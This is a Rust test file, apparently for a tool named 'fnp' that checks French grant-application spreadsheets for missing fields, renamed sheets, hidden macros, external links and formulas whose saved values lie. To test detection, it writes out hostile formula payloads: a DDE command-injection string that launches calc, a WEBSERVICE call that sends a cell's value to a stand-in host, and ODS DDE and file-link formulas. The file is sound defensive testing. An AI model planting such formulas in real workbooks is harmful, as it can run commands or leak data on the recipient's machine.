    let cafe = cles("cafe-des-parents");
    assert!(cafe.contains(&"indicateurs.parents_qpv".to_string()), "{cafe:?}");
    assert!(cafe.contains(&"indicateurs.participants".to_string()), "{cafe:?}");
    for absent in ["indicateurs.appels_orientes", "indicateurs.heures_permanence", "indicateurs.familles_accueillies"] {
        assert!(!cafe.contains(&absent.to_string()), "{absent} in {cafe:?}");
    }
    for commun in ["porteur.nom", "action.intitule", "action.description", "caf.departement"] {
        assert!(cafe.contains(&commun.to_string()), "{commun} in every template: {cafe:?}");
    }
    assert!(!cafe.contains(&"action.demarche_globale".to_string()), "{cafe:?}");
    assert!(cles("conference").contains(&"action.demarche_globale".to_string()));
    let telephonie = cles("telephonie-sociale");
    assert!(telephonie.contains(&"indicateurs.appels_orientes".to_string()), "{telephonie:?}");
    assert!(!telephonie.contains(&"indicateurs.participants".to_string()), "{telephonie:?}");
}

/// A sheet of the layout renamed (« Recettes 2025 »): its lines are not read, and that is said
/// at the sheet, never « aucune demande au FNP » nor charges of 0 € (hostile round 4).
#[test]
fn a_renamed_sheet_is_named_not_silently_skipped() {
    let dir = tempfile::tempdir().expect("tempdir");
    let xlsx = dir.path().join("renommee.xlsx");
    classeur_a_la_main_avec(&xlsx, "Recettes 2025", None);
    let r = verifier(&xlsx);
    let manquant =
        r.constats.iter().find(|c| c.regle == "SAISIE-CHAMP-MANQUANT" && c.message.contains("Recettes 2025"));
    let manquant = manquant.unwrap_or_else(|| panic!("{:#?}", r.constats));
    assert!(manquant.message.contains("renommez-la « Recettes »"), "{}", manquant.message);
    assert_eq!(manquant.emplacement.cellule.as_deref(), Some("Recettes 2025!A1"));
    assert!(r.constats.iter().all(|c| c.regle != "GEN-DEMANDE-ABSENTE"), "{:#?}", r.constats);
    assert_eq!(r.budget, None, "no budget from a workbook whose income was not read");
}

/// A copy of a workbook (zip) with parts added and texts replaced in some parts.
fn classeur_modifie(base: &[u8], ajouts: &[(&str, &[u8])], remplacements: &[(&str, &str, &str)]) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(base)).expect("zip");
    let mut sortie = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for i in 0..archive.len() {
        let mut partie = archive.by_index(i).expect("part");
        let nom = partie.name().expect("name").to_string();
        let mut octets = Vec::new();
        partie.read_to_end(&mut octets).expect("read");
        for (ou, avant, apres) in remplacements {
            if nom == *ou {
                let texte = String::from_utf8(octets.clone()).expect("utf-8");
                assert!(texte.contains(avant), "{nom}: {avant}");
                octets = texte.replacen(avant, apres, 1).into_bytes();
            }
        }
        sortie.start_file(nom, options).expect("start");
        sortie.write_all(&octets).expect("write");
    }
    for (nom, octets) in ajouts {
        sortie.start_file(*nom, options).expect("start");
        sortie.write_all(octets).expect("write");
    }
    sortie.finish().expect("finish").into_inner()
}

/// Hostile round 4: active content is found by what it is — its relationship type, content
/// type or formula text — never by its part's name. A VBA project stored as xl/donnees.bin,
/// a DDE link at xl/liens/lien1.xml, a connection at xl/cnx.xml, an OLE package at
/// xl/objet.dat, a DDE formula and WEBSERVICE in a cell: each is told.
#[test]
fn active_content_is_found_by_its_type_not_its_name() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = dir.path().join("base.xlsx");
    classeur_a_la_main(&base);
    let octets = std::fs::read(&base).expect("read");
    assert!(!verifier(&base).constats.iter().any(|c| c.regle.starts_with("CLASSEUR-")));
    let types = "[Content_Types].xml";
    let rels = "xl/_rels/workbook.xml.rels";
    let cas: [(&str, &str, &str, &str, &str); 4] = [
        (
            "xl/donnees.bin",
            "application/vnd.ms-office.vbaProject",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "donnees.bin",
            "CLASSEUR-MACROS",
        ),
        (
            "xl/liens/lien1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink",
            "liens/lien1.xml",
            "CLASSEUR-LIENS-EXTERNES",
        ),
        (
            "xl/cnx.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections",
            "cnx.xml",
            "CLASSEUR-LIENS-EXTERNES",
        ),
        (
            "xl/objet.dat",
            "application/vnd.openxmlformats-officedocument.oleObject",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package",
            "objet.dat",
            "CLASSEUR-MACROS",
        ),
    ];
    for (partie, type_contenu, type_relation, cible, regle) in cas {
        let modifie = classeur_modifie(
            &octets,
            &[(partie, b"<x/>".as_slice())],
            &[
                (
                    types,
                    "</Types>",
                    &format!("<Override PartName=\"/{partie}\" ContentType=\"{type_contenu}\"/></Types>"),
                ),
                (
                    rels,
                    "</Relationships>",
                    &format!("<Relationship Id=\"rIdX\" Type=\"{type_relation}\" Target=\"{cible}\"/></Relationships>"),
                ),
            ],
        );
        let p = dir.path().join("actif.xlsx");
        std::fs::write(&p, modifie).expect("write");
        let r = verifier(&p);
        assert!(r.constats.iter().any(|c| c.regle == regle), "{partie}: {:#?}", r.constats);
        // The annotated copy keeps it, as received, and its note says so.
        let copies = dir.path().join(format!("copies-{}", partie.replace('/', "-")));
        let o =
            fnp().args(["check", "--format", "json"]).arg(&p).arg("--annotate").arg(&copies).output().expect("runs");
        let v: Value = serde_json::from_slice(&o.stdout).expect("JSON");
        let remarque = v["dossiers"][0]["copie_annotee"]["remarque"].as_str().unwrap_or("").to_string();
        assert!(remarque.contains("la copie annotée les garde tels quels"), "{partie}: {remarque}");
    }
    for (formule, regle) in [
        ("cmd|' /C calc'!A0", "CLASSEUR-LIENS-EXTERNES"),
        ("WEBSERVICE(\"https://exemple.test/\"&B5)", "CLASSEUR-LIENS-EXTERNES"),
    ] {
        let p = dir.path().join("formule.xlsx");
        classeur_a_la_main_avec(&p, "Recettes", Some(formule));
        let r = verifier(&p);
        assert!(r.constats.iter().any(|c| c.regle == regle), "{formule}: {:#?}", r.constats);
    }
    // The same formulas in a sheet fnp does not read (the hidden « Aide »): found all the same.
    let sain = dir.path().join("sain.xlsx");
    classeur_a_la_main_avec(&sain, "Recettes", None);
    let octets = std::fs::read(&sain).expect("read");
    assert!(!verifier(&sain).constats.iter().any(|c| c.regle.starts_with("CLASSEUR-")));
    for formule in ["cmd|' /C calc'!A0", "WEBSERVICE(\"https://exemple.test/\")"] {
        let dans_aide = classeur_modifie(
            &octets,
            &[],
            &[(
                "xl/worksheets/sheet1.xml",
                "<c r=\"A1\" t=\"s\"><v>0</v></c>",
                &format!("<c r=\"A1\" t=\"str\"><f>{}</f><v>0</v></c>", formule.replace('"', "&quot;")),
            )],
        );
        let p = dir.path().join("aide.xlsx");
        std::fs::write(&p, dans_aide).expect("write");
        let r = verifier(&p);
        assert!(r.constats.iter().any(|c| c.regle == "CLASSEUR-LIENS-EXTERNES"), "Aide: {formule}: {:#?}", r.constats);
    }
    // And in an .ods: in a sheet of the dossier, and in a sheet fnp passes over.
    let ods = std::fs::read("tests/fixtures/classeurs/lieu-libreoffice.ods").expect("ods");
    let montant = "office:value-type=\"float\" office:value=\"22000\"";
    for formule in [
        "of:=WEBSERVICE(&quot;https://exemple.test/&quot;)",
        "of:=DDE(&quot;soffice&quot;;&quot;/tmp/x.ods&quot;;&quot;A1&quot;)",
        "of:=['file:///tmp/x.ods'#$Feuille1.A1]",
    ] {
        let dans_recettes =
            classeur_modifie(&ods, &[], &[("content.xml", montant, &format!("table:formula=\"{formule}\" {montant}"))]);
        let notes = format!(
            "<table:table table:name=\"Notes\"><table:table-row><table:table-cell table:formula=\"{formule}\" office:value-type=\"float\" office:value=\"0\"/></table:table-row></table:table></office:spreadsheet>"
        );
        let dans_notes = classeur_modifie(&ods, &[], &[("content.xml", "</office:spreadsheet>", &notes)]);
        for (ou, octets) in [("Recettes", dans_recettes), ("Notes", dans_notes)] {
            let p = dir.path().join("formule.ods");
            std::fs::write(&p, octets).expect("write");
            let r = verifier(&p);
            assert!(
                r.constats.iter().any(|c| c.regle == "CLASSEUR-LIENS-EXTERNES"),
                "{ou}: {formule}: {:#?}",
                r.constats
            );
        }
    }
    let p = dir.path().join("sain.ods");
    std::fs::write(&p, &ods).expect("write");
    assert!(!verifier(&p).constats.iter().any(|c| c.regle.starts_with("CLASSEUR-")));
}

/// Hostile round 4: a cached value that lies. `Recettes!C2` written `<f>4100</f><v>3200</v>`:
/// a spreadsheet recomputes 4 100 € on opening, fnp's saved value reads 3 200 €. The amount
/// is refused with both readings (SAISIE-MONTANT at the cell), never counted; the same cell
/// with a formula that agrees with its value (`=3000+200`) is read as usual.
#[test]
fn a_money_formula_whose_saved_value_differs_is_refused_with_both() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = dir.path().join("base.xlsx");
    fnp().args(["convert", "examples/1.1-cafe-des-parents.toml", "-o"]).arg(&base).assert().success();
    let octets = std::fs::read(&base).expect("read");
    let cellule = "<c r=\"C2\" s=\"12\"><v>3200</v></c>";
    for (formule, ment) in [("4100", true), ("3000+200", false), ("SUM(1000,2200)", false), ("B9*2", true)] {
        let modifie = classeur_modifie(
            &octets,
            &[],
            &[("xl/worksheets/sheet3.xml", cellule, &format!("<c r=\"C2\" s=\"12\"><f>{formule}</f><v>3200</v></c>"))],
        );
        let p = dir.path().join("formule.xlsx");
        std::fs::write(&p, modifie).expect("write");
        let r = verifier(&p);
        let refus = r
            .constats
            .iter()
            .find(|c| c.regle == "SAISIE-MONTANT" && c.emplacement.cellule.as_deref() == Some("Recettes!C2"));
        if ment {
            let refus = refus.unwrap_or_else(|| panic!("{formule}: {:#?}", r.constats));
            assert!(
                refus.message.contains("3\u{202f}200,00") && refus.message.contains("recalcule"),
                "{}",
                refus.message
            );
            assert_eq!(r.budget, None, "{formule}: a line read two ways is not counted");
        } else {
            assert!(refus.is_none(), "{formule}: {:#?}", r.constats);
            assert!(r.budget.is_some());
        }
    }
}

/// Hostile round 4, the rest of the cached value that lies: a formula fnp cannot recompute
/// (a function other than `SUM`) is read from its saved value and said to be (SAISIE-FORMULE,
/// an info at the cell), and the same holds in an .ods, whose formulas are written in
/// OpenDocument notation (`of:=[.C3]*4`): a lie refused with both readings, a true formula
/// read as usual, one fnp cannot recompute said.
#[test]
fn formulas_fnp_cannot_recompute_are_said_and_ods_formulas_are_recomputed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let base = dir.path().join("base.xlsx");
    fnp().args(["convert", "examples/1.1-cafe-des-parents.toml", "-o"]).arg(&base).assert().success();
    let octets = std::fs::read(&base).expect("read");
    let cellule = "<c r=\"C2\" s=\"12\"><v>3200</v></c>";
    let modifie = classeur_modifie(
        &octets,
        &[],
        &[("xl/worksheets/sheet3.xml", cellule, "<c r=\"C2\" s=\"12\"><f>ROUND(3200.4,0)</f><v>3200</v></c>")],
    );
    let p = dir.path().join("arrondi.xlsx");
    std::fs::write(&p, modifie).expect("write");
    let r = verifier(&p);
    let dit: Vec<_> = r.constats.iter().filter(|c| c.regle == "SAISIE-FORMULE").collect();
    assert_eq!(dit.len(), 1, "{:#?}", r.constats);
    assert_eq!(dit[0].emplacement.cellule.as_deref(), Some("Recettes!C2"));
    assert!(dit[0].message.contains("ROUND(3200.4,0)") && dit[0].message.contains("enregistrée"), "{}", dit[0].message);
    assert!(r.budget.is_some(), "the saved value is read");

    let ods = std::fs::read("tests/fixtures/classeurs/lieu-libreoffice.ods").expect("ods");
    let montant = "office:value-type=\"float\" office:value=\"22000\"";
    for (formule, attendu) in [
        ("of:=29000+600", Some("SAISIE-MONTANT")),
        ("of:=[.C3]*4+400", None),
        ("of:=ROUND(22000;0)", Some("SAISIE-FORMULE")),
    ] {
        let modifie =
            classeur_modifie(&ods, &[], &[("content.xml", montant, &format!("table:formula=\"{formule}\" {montant}"))]);
        let p = dir.path().join("formule.ods");
        std::fs::write(&p, modifie).expect("write");
        let r = verifier(&p);
        let trouves: Vec<_> = r
            .constats
            .iter()
            .filter(|c| matches!(c.regle.as_str(), "SAISIE-MONTANT" | "SAISIE-FORMULE"))
            .map(|c| (c.regle.to_string(), c.emplacement.cellule.clone()))
            .collect();
        match attendu {
            Some(regle) => assert_eq!(trouves, [(regle.to_string(), Some("Recettes!C2".to_string()))], "{formule}"),
            None => assert!(trouves.is_empty(), "{formule}: {trouves:?}"),
        }
    }
}
